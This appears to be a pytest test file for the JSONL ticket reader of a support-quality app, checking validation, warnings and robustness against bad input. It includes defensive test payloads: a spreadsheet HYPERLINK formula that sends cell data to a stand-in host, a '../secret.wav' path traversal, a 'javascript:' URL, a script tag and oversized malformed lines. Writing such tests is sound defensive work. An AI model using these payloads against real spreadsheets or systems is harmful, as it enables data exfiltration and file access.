import json
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from db.records import Attachment, IssueLevel, Message, MessageRole, Metric
from qa_app.errors import Refused
from qa_app.intake.interchange import write_schema
from qa_app.intake.jsonl import read_jsonl
from qa_app.intake.model import IncomingPerson, IncomingTicket, Read
from scorecards.model import Channel

DOCS = Path(__file__).parents[3] / "docs"

SMALLEST = {
    "plumbline": 1,
    "source": "desk",
    "external_id": "7",
    "channel": "chat",
    "created_at": "2026-10-05T08:30:02Z",
    "messages": [{"role": "customer", "text": "hello"}],
}


def read(folder: Path, *lines: object) -> Read:
    """The file with these lines: objects as JSON, text as it is."""
    path = folder / "tickets.jsonl"
    texts = [line if isinstance(line, str) else json.dumps(line) for line in lines]
    path.write_text("\n".join(texts), encoding="utf-8", errors="surrogatepass")
    return read_jsonl(path, file_name="tickets.jsonl", folder=folder)


def problems(result: Read) -> list[tuple[int | None, str | None, str]]:
    return [(issue.row, issue.column, issue.code) for issue in result.issues]


def test_every_field_arrives(tmp_path: Path) -> None:
    line = SMALLEST | {
        "created_at": "2026-10-05T10:30:02+02:00",
        "solved_at": "2026-10-06T08:00:00Z",
        "subject": "Refund",
        "status": "solved",
        "language": "en",
        "team": "Billing",
        "agent": {"id": "A007", "name": "Priya Nair", "email": "Priya@Example.com"},
        "other_agents": [{"name": "Tomáš Dvořák"}],
        "requester": {"id": "c-88", "name": "Dana Whitfield"},
        "tags": ["refund", "vip", "refund"],
        "url": "https://desk.example/7",
        "parent_id": "6",
        "metrics": [
            {"name": "csat", "value": 4, "unit": "points", "scale": "1..5"},
            {"name": "first_reply", "value": 180.5, "unit": "seconds", "hours": "business"},
        ],
        "messages": [
            {
                "role": "agent",
                "text": "",
                "html": "<p>Hi <b>Dana</b></p><script>x</script>",
                "author": {"id": "7001", "name": "Priya Nair"},
                "sent_at": "2026-10-05T08:31:00Z",
                "internal": True,
                "external_id": "m1",
                "start_seconds": 0.0,
                "end_seconds": 3.2,
                "channel_no": 0,
                "confidence": 0.93,
                "attachments": [{"name": "photo.jpg", "media_type": "image/jpeg", "size_bytes": 1}],
            }
        ],
    }
    result = read(tmp_path, line)
    assert result.issues == ()
    assert result.tickets == (
        IncomingTicket(
            row=1,
            source="desk",
            external_id="7",
            channel=Channel.CHAT,
            created_at=datetime(2026, 10, 5, 8, 30, 2, tzinfo=UTC),
            solved_at=datetime(2026, 10, 6, 8, tzinfo=UTC),
            subject="Refund",
            status="solved",
            language="en",
            team="Billing",
            agent=IncomingPerson("Priya Nair", "A007", "priya@example.com"),
            other_agents=(IncomingPerson("Tomáš Dvořák"),),
            requester_name="Dana Whitfield",
            requester_ref="c-88",
            tags=("refund", "vip"),
            url="https://desk.example/7",
            parent_external_id="6",
            metrics=(
                Metric("csat", Decimal(4), "points", scale="1..5"),
                Metric("first_reply", Decimal("180.5"), "seconds", hours="business"),
            ),
            messages=(
                Message(
                    seq=1,
                    role=MessageRole.AGENT,
                    text="Hi Dana",
                    html="<p>Hi <b>Dana</b></p>",
                    author_name="Priya Nair",
                    author_ref="7001",
                    external_id="m1",
                    sent_at=datetime(2026, 10, 5, 8, 31, tzinfo=UTC),
                    internal=True,
                    start_seconds=0.0,
                    end_seconds=3.2,
                    channel_no=0,
                    confidence=0.93,
                    attachments=(Attachment("photo.jpg", "image/jpeg", 1),),
                ),
            ),
        ),
    )


def test_all_problems_of_a_line_are_told_at_once(tmp_path: Path) -> None:
    line = SMALLEST | {
        "external_id": 7,
        "channel": "chatt",
        "created_at": "2026-10-05T08:30:02",
        "url": "javascript:alert(1)",
        "metrics": [{"name": "csat", "value": "4", "unit": "points"}],
        "messages": [{"role": "custmer", "text": "x"}, {"text": "y", "start_seconds": -1}],
    }
    result = read(tmp_path, line)
    assert result.tickets == ()
    assert problems(result) == [
        (1, "external_id", "field-type"),
        (1, "channel", "field-value"),
        (1, "created_at", "time-without-zone"),
        (1, "url", "field-value"),
        (1, "metrics[0].value", "field-type"),
        (1, "messages[0].role", "field-value"),
        (1, "messages[1].role", "field-missing"),
        (1, "messages[1].start_seconds", "field-range"),
    ]
    by_field = {issue.column: issue for issue in result.issues}
    assert by_field["channel"].message.endswith("Did you mean chat?")
    assert by_field["messages[0].role"].message == ("Valid are customer, agent, bot, system. Did you mean customer?")
    assert by_field["created_at"].found == "2026-10-05T08:30:02"


def test_a_bad_line_does_not_sink_the_good_ones(tmp_path: Path) -> None:
    result = read(tmp_path, SMALLEST, "{broken", "", [1], SMALLEST | {"external_id": "8"})
    assert [ticket.external_id for ticket in result.tickets] == ["7", "8"]
    assert problems(result) == [(2, None, "not-json"), (4, None, "not-interchange")]
    assert result.rows_read == 4


@pytest.mark.parametrize(
    ("change", "column", "code"),
    [
        ({"created_at": None}, "created_at", "field-missing"),
        ({"created_at": 1_772_529_600}, "created_at", "time-unreadable"),
        ({"created_at": "yesterday"}, "created_at", "time-unreadable"),
        ({"created_at": "0001-01-01T00:00:00+14:00"}, "created_at", "field-range"),
        ({"external_id": ""}, "external_id", "field-range"),
        ({"external_id": "x" * 201}, "external_id", "field-range"),
        ({"agent": "Priya"}, "agent", "field-type"),
        ({"agent": {"name": "Priya", "email": "none"}}, "agent.email", "field-value"),
        ({"tags": "vip"}, "tags", "field-type"),
        ({"metrics": [{"name": "csat", "value": True, "unit": "points"}]}, "metrics[0].value", "field-type"),
        ({"metrics": [{"name": "csat", "value": 1e300, "unit": "points"}]}, "metrics[0].value", "field-range"),
        ({"metrics": [{"name": "a", "value": 1, "unit": "x"}] * 2}, "metrics[1].name", "metric-twice"),
        ({"messages": {"role": "agent"}}, "messages", "field-type"),
        ({"messages": [{"role": "agent", "text": "x", "confidence": 93}]}, "messages[0].confidence", "field-range"),
    ],
)
def test_a_value_that_does_not_fit_is_refused_where_it_stands(
    tmp_path: Path, change: dict[str, object], column: str, code: str
) -> None:
    result = read(tmp_path, SMALLEST | change)
    assert (problems(result), result.tickets) == ([(1, column, code)], ())


def test_unknown_keys_are_warned_about_with_the_nearest_known_one(tmp_path: Path) -> None:
    messages = [{"role": "agent", "text": "y", "ts": "now", "send_at": "now"}]
    result = read(tmp_path, {"subjekt": "x"} | SMALLEST | {"messages": messages})
    assert len(result.tickets) == 1
    assert [(issue.level, issue.column, issue.message.partition(". ")[2]) for issue in result.issues] == [
        (IssueLevel.WARNING, "subjekt", "Did you mean subject?"),
        (
            IssueLevel.WARNING,
            "messages[0].ts",
            (
                "Known keys: role, text, html, author, sent_at, internal, external_id, start_seconds, end_seconds, "
                "channel_no, confidence, attachments."
            ),
        ),
        (IssueLevel.WARNING, "messages[0].send_at", "Did you mean sent_at?"),
    ]


def test_a_newer_version_is_refused_with_what_to_do(tmp_path: Path) -> None:
    result = read(tmp_path, SMALLEST | {"plumbline": 2, "hologram": True})
    assert result.tickets == ()
    assert problems(result) == [(1, None, "version-newer"), (1, "hologram", "key-unknown")]
    assert result.issues[0].message == (
        "The line is in version 2 of the format; this Plumbline reads version 1. Upgrade Plumbline, or export the file "
        "in version 1."
    )


def test_the_second_line_of_one_ticket_is_refused_and_names_both(tmp_path: Path) -> None:
    other_source = SMALLEST | {"source": "other"}
    result = read(tmp_path, SMALLEST, other_source, SMALLEST | {"subject": "again"})
    assert [(ticket.source, ticket.subject) for ticket in result.tickets] == [("desk", None), ("other", None)]
    assert problems(result) == [(3, None, "ticket-twice")]
    assert result.issues[0].message.startswith("Lines 1 and 3 hold the same ticket; line 1 was taken.")


def test_a_byte_order_mark_and_windows_line_ends_do_not_matter(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(SMALLEST).encode() + b"\r\n\r\n")
    assert len(read_jsonl(path, file_name="a.jsonl", folder=tmp_path).tickets) == 1


def test_characters_that_cannot_be_stored_leave_the_text(tmp_path: Path) -> None:
    line = json.dumps(SMALLEST).replace("hello", "a\\u0000b \\ud83d cut")
    assert read(tmp_path, line).tickets[0].messages[0].text == "ab \N{REPLACEMENT CHARACTER} cut"


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b"\xff\xfe{\x00", "not-utf8"),
        (b"[\n" + json.dumps(SMALLEST).encode() + b"\n]", "json-not-lines"),
    ],
)
def test_a_file_that_is_no_jsonl_is_refused_as_a_whole(tmp_path: Path, raw: bytes, code: str) -> None:
    path = tmp_path / "a.jsonl"
    path.write_bytes(raw)
    with pytest.raises(Refused) as refused:
        read_jsonl(path, file_name="a.jsonl", folder=tmp_path)
    assert refused.value.code == code


@pytest.mark.parametrize(
    "line",
    [
        '{"plumbline": NaN}',
        "[" * 100_000,
        '{"plumbline": ' + "9" * 5000 + "}",
        "\x00" * 100,
        '"' + "x" * 1_000_000,
    ],
)
def test_a_hostile_line_costs_only_itself(tmp_path: Path, line: str) -> None:
    result = read(tmp_path, line, SMALLEST)
    assert problems(result) == [(1, None, "not-json")]
    assert len(result.tickets) == 1


def test_a_line_that_is_not_utf8_costs_only_itself(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    path.write_bytes(b'{"plumbline": 1, "subject": "caf\xe9"}\n' + json.dumps(SMALLEST).encode())
    result = read_jsonl(path, file_name="a.jsonl", folder=tmp_path)
    assert (problems(result), len(result.tickets)) == ([(1, None, "not-utf8")], 1)


def test_formula_like_text_stays_as_it_is(tmp_path: Path) -> None:
    subject = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")'
    assert read(tmp_path, SMALLEST | {"subject": subject}).tickets[0].subject == subject


def test_a_recording_is_found_in_the_folder_and_below(tmp_path: Path) -> None:
    (tmp_path / "audio").mkdir()
    (tmp_path / "audio" / "7.ogg").write_bytes(b"OggS")
    result = read(tmp_path, SMALLEST | {"recordings": [{"file": "audio/7.ogg"}, {"file": "audio/8.ogg"}]})
    assert [recording.path for recording in result.tickets[0].recordings] == [tmp_path / "audio" / "7.ogg"]
    assert problems(result) == [(1, "recordings[1].file", "recording-missing")]


def test_a_recording_outside_the_folder_costs_the_line(tmp_path: Path) -> None:
    inside = tmp_path / "in"
    inside.mkdir()
    (tmp_path / "secret.wav").write_bytes(b"RIFF")
    result = read(inside, SMALLEST | {"recordings": [{"file": "../secret.wav"}]})
    assert (problems(result), result.tickets) == ([(1, "recordings[0].file", "recording-outside")], ())


def test_the_published_schema_is_the_models() -> None:
    # Written by: python -m qa_app.intake.interchange > docs/interchange.schema.json
    assert (DOCS / "interchange.schema.json").read_text(encoding="utf-8") == write_schema()


def test_the_example_in_the_documentation_is_read_without_a_remark(tmp_path: Path) -> None:
    text = (DOCS / "interchange-format.md").read_text(encoding="utf-8")
    example = text.partition("```json\n")[2].partition("```")[0]
    (tmp_path / "audio").mkdir()
    (tmp_path / "audio" / "D-1042.ogg").write_bytes(b"OggS")
    result = read(tmp_path, json.loads(example))
    assert (result.issues, len(result.tickets)) == ((), 1)
